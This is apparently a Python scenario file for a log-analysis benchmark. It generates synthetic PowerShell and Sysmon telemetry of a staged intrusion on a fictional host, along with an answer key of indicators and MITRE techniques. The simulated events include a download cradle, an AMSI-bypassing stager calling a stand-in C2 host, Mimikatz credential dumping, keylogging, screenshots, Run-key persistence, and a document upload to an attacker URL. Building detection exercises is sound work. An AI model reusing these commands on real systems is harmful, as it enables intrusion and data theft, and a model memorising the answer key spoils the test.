"""All in PowerShell: cradle, stager, stolen credentials, keys and pictures, a run key. Script blocks and few Sysmon events."""

from __future__ import annotations

import base64
import random
from pathlib import Path

from ..making import Day, FactRow, Scenario, make_truth
from .layouts import nxlog
from .machine import PS, Machine
from .noise import collection, furnish, maintenance, ordinary

DAY = Day("2024-03-21")
USER = "OSTERIA\\n.vidal"
C2, NAME = "203.0.113.118", "updates.cloudfont-api.test"
STAGER = (
    "If($PSVersionTable.PSVersion.Major -ge 3){$Ref=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');"
    "$Ref.GetField('amsiInitFailed','NonPublic,Static').Setvalue($Null,$true)};[System.Net.ServicePointManager]::Expect100Continue=0;"
    f"$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';$ser='http://{C2}:8081';"
    "$t='/news.php';$wc.Headers.Add('User-Agent',$u);$K=[System.Text.Encoding]::ASCII.GetBytes('q8f2');$data=$wc.DownloadData($ser+$t);"
    "$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX"
)


def _attack(m: Machine) -> None:
    at = DAY.at
    user = "n.vidal"
    cradle = f"powershell.exe -NoP -W Hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{NAME}/a.ps1')\""
    first = m.start(at("11:02:15"), PS, cradle, m.procs["explorer"])
    m.dns_query(at("11:02:16"), first, NAME, C2)
    m.script(at("11:02:15.8"), f"IEX(New-Object Net.WebClient).DownloadString('http://{NAME}/a.ps1')", first)
    stage = m.start(
        at("11:02:20"), PS, f'"{PS}" -noP -sta -w 1 -enc {base64.b64encode(STAGER.encode("utf-16-le")).decode()}', first
    )
    m.script(at("11:02:21"), STAGER, stage)
    for n in range(8):
        m.net(at(f"11:{3 + 3 * n:02d}:00"), stage, C2, 8081)
    for clock, text in (
        ("11:06:00", "function Get-SysInfo { Get-WmiObject Win32_OperatingSystem; Get-WmiObject Win32_ComputerSystem; whoami /groups } Get-SysInfo"),
        ("11:08:30", "function Get-NetUser { [CmdletBinding()] param([String]$UserName,[String]$Domain) $UserSearcher = Get-DomainSearcher } # PowerSploit Function: Get-NetUser\r\nGet-NetUser -Domain osteria.test | Select samaccountname"),
        ("11:12:00", "function Invoke-Mimikatz { [CmdletBinding(DefaultParameterSetName=\"DumpCreds\")] Param([Switch] $DumpCreds) $PEBytes64 = 'TVqQAAMAAAAEAAAA'; Invoke-MemoryLoadLibrary } # PowerSploit Function: Invoke-Mimikatz\r\nInvoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'"),
        ("11:16:00", "function Get-Keystrokes { [CmdletBinding()] Param([String] $LogPath = \"$($Env:TEMP)\\key.log\") $ImportDll::GetAsyncKeyState($TypeableChar) } # PowerSploit Function: Get-Keystrokes\r\nGet-Keystrokes -LogPath C:\\Users\\n.vidal\\AppData\\Local\\Temp\\key.log"),
        ("11:19:00", "while($true){ Add-Type -AssemblyName System.Windows.Forms; [Windows.Forms.Clipboard]::GetText(); Get-Clipboard; Start-Sleep 15 }"),
        ("11:21:30", "function Get-Screenshot { Add-Type -AssemblyName System.Windows.Forms; $bmp = New-Object Drawing.Bitmap $w, $h; $g=[Drawing.Graphics]::FromImage($bmp); $g.CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.Size); $bmp.Save('C:\\Users\\n.vidal\\AppData\\Local\\Temp\\shot01.png') } Get-Screenshot"),
        ("11:24:00", "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name FontCacheSvc -Value 'C:\\Users\\n.vidal\\AppData\\Roaming\\fontcache.bat' -PropertyType String -Force"),
        ("11:26:30", "Compress-Archive -Path C:\\Users\\n.vidal\\Documents\\*.xlsx -DestinationPath C:\\Users\\n.vidal\\AppData\\Local\\Temp\\out.zip; (New-Object Net.WebClient).UploadFile('http://" + NAME + "/up.php','C:\\Users\\n.vidal\\AppData\\Local\\Temp\\out.zip')"),
    ):  # fmt: skip
        m.script(at(clock), text, stage)
        m.module(at(clock), USER, text.split()[0], f'CommandInvocation({text.split()[0]}): "{text.split()[0]}"', stage)
    m.accessed(
        at("11:12:04"),
        stage,
        m.procs["lsass"],
        "0x1010",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2b8a3|UNKNOWN(0000020F33A1)",
    )
    m.wrote(at("11:23:58"), stage, f"C:\\Users\\{user}\\AppData\\Roaming\\fontcache.bat")
    m.registry(
        at("11:24:01"),
        stage,
        "HKU\\S-1-5-21-1004336348-1177238915-682003330-1131\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\FontCacheSvc",
        f"C:\\Users\\{user}\\AppData\\Roaming\\fontcache.bat",
    )
    m.wrote(at("11:26:32"), stage, f"C:\\Users\\{user}\\AppData\\Local\\Temp\\out.zip")
    m.net(at("11:26:35"), stage, C2, 80, NAME)
    m.script(
        at("11:29:00"), f"Remove-Item C:\\Users\\{user}\\AppData\\Local\\Temp\\out.zip -Force; Clear-History", stage
    )
    m.stop(at("11:29:30"), stage)


def write(folder: Path) -> None:
    """One host and a quiet one, as a collector writes them; little Sysmon, all script blocks."""
    dice = random.Random(2103)
    m = Machine("OST-LT07", "10.81.3.7", "OSTERIA", "osteria.test", audit=False)
    other = Machine("OST-LT09", "10.81.3.9", "OSTERIA", "osteria.test", audit=False)
    furnish(m, USER)
    furnish(other, "OSTERIA\\c.marsh")
    for host in (m, other):
        ordinary(host, DAY, dice, "10:30:00", "12:00:00", 700)
        maintenance(host, DAY.at("10:41:00"))
    _attack(m)
    collection(m, DAY.at("11:45:00"), USER)
    (folder / "powershell.json").write_text(nxlog(m, other), encoding="utf-8")


_FACTS: tuple[FactRow, ...] = (
    ("host", 2, ("ost-lt07",)), ("user", 2, ("n.vidal",)), ("c2", 3, (C2,)), ("c2_port", 2, (f"{C2}:8081", f"{C2} & 8081")), ("name", 3, (NAME,)),
    ("cradle", 3, (f"{NAME}/a.ps1", "a.ps1")), ("encoded", 2, ("powershell & encoded", "powershell & -enc")), ("amsi", 3, ("amsi",)), ("stager", 2, ("news.php",)),
    ("sysinfo", 1, ("get-sysinfo", "win32_operatingsystem", "whoami")), ("users", 2, ("get-netuser",)), ("mimikatz", 3, ("mimikatz",)), ("lsass", 3, ("lsass & 0x1010", "lsass & powershell")),
    ("keys", 3, ("get-keystrokes", "keystroke", "key.log")), ("clipboard", 2, ("clipboard",)), ("screen", 2, ("screenshot", "copyfromscreen", "shot01.png", "screen")),
    ("run_key", 3, ("fontcachesvc",)), ("bat", 2, ("fontcache.bat",)), ("zip", 2, ("out.zip",)), ("upload", 3, ("upload", "up.php")),
)  # fmt: skip

SCENARIO = Scenario(
    "scripted", write,
    make_truth(
        "scripted", _FACTS, "cradle amsi users mimikatz keys clipboard screen run_key zip",
        "T1059.001 T1105 T1027 T1685 T1087.002 T1003.001 T1056.001 T1115 T1113 T1547.001 T1560.001 T1041 T1071.001",
        "T1027.010 T1082 T1033 T1047 T1562 T1562.001 T1571 T1620 T1055 T1070 T1070.004 T1070.003 T1564 T1564.003 T1087 T1112 T1573 T1132 T1140 T1567 T1048 "
        "T1005 T1204 T1204.002 T1069 T1003 T1106 T1071 T1018 T1560",
        ("2024-03-21T11:02:15Z", "2024-03-21T11:29:30Z"),
        ("GoogleUpdate.exe", "142.250.72.99", "healthservice.exe", "OST-LT09", "c.marsh", "collect.ps1", "OneDrive.exe", "10.31.0.40"),
        ("netsh.exe", "wevtutil.exe"),
    ),
)  # fmt: skip
